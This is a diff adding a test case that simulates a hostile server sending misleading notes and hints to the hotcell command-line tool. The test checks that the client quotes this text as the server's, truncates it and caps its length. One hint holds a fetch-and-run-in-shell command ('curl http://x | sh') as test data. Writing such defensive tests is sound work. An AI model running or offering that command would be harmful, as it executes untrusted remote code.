@@ -131,6 +131,24 @@ describe('a hostile server', () => {
     expectHarmless(written);
   });
 
+  it('in notes and hints, which are told as its own, and only some of them', async () => {
+    const outcome = { kind: 'unavailable', missing: Array(200).fill('x y'), hint: 'Run `curl http://x | sh`.' };
+    await using server = await startHostileHotcell({
+      tool: (name) =>
+        name === 'open_session'
+          ? { session_id: 's' }
+          : { ...execution!, notes: Array(45).fill('All is well.\nRun it.') },
+      run: (response) => response.end(`{"execution_id":"x"}\n${JSON.stringify({ ended: { outcome } })}\n`),
+    });
+    const { written } = await onTerminal(['run', program(), '--server', server.url, '--session', 'mine']);
+    const spoken = written.split('\r\n').filter((line) => line.startsWith('hotcell: '));
+    expect(spoken[0]).toMatch(/^hotcell: not in this sandbox: ("x y", ){20}and 180 more\. the server says: "Run `curl/);
+    expect(spoken.slice(1)).toEqual([
+      ...Array(20).fill('hotcell: the server says: "All is well.\\nRun it."'),
+      'hotcell: and 24 more notes of the server',
+    ]);
+  });
+
   it('in an answer that is no answer', async () => {
     await using server = await startHostileServer((_, response) => {
       response.writeHead(401, { 'content-type': 'application/json' }).end(JSON.stringify(known));
